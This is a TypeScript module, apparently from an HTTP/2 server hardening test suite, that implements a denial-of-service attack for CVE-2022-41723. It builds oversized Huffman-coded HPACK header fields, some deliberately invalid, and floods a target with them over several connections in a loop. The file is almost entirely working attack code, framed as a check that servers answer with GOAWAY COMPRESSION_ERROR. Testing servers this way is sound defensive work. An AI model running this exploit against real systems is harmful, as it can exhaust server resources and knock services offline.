// Heads whose values are in Huffman code throughout.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request, SMALL_PATH } from '../wire/http2.ts'

/** 7,500 octets of 1: EOS within, which is an error (RFC 7541 section 5.2). */
const LONG_CODES = field(Buffer.alloc(7_500, 0xff))
/** Code of '0' is 00000: 12,000 characters. */
const SHORT_CODES = field(Buffer.alloc(7_500, 0))

function field(coded: Buffer): Buffer {
  const name = Buffer.from([0, 1, 'x'.charCodeAt(0)])
  const rest = coded.length - 127
  return Buffer.concat([name, Buffer.from([0xff, (rest & 127) | 128, rest >> 7]), coded])
}

export const attack: Attack = {
  reference: 'CVE-2022-41723',
  does: 'sends heads of 600,000 bytes in Huffman code, every other one wrong',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', '400', '431', 'RST_STREAM REFUSED_STREAM', 'GOAWAY COMPRESSION_ERROR'],
  must: ['GOAWAY COMPRESSION_ERROR'],
  run: (target, signal) => {
    let n = 0
    return attackHttp2(target, signal, { connections: 4 }, (connection) => {
      const last = n++ % 2 === 0 ? SHORT_CODES : LONG_CODES
      const fields = [...new Array<Buffer>(79).fill(SHORT_CODES), last]
      return closedLoop(connection, 10, request(Buffer.concat([head(target, 'GET', SMALL_PATH), ...fields])))
    })
  },
}
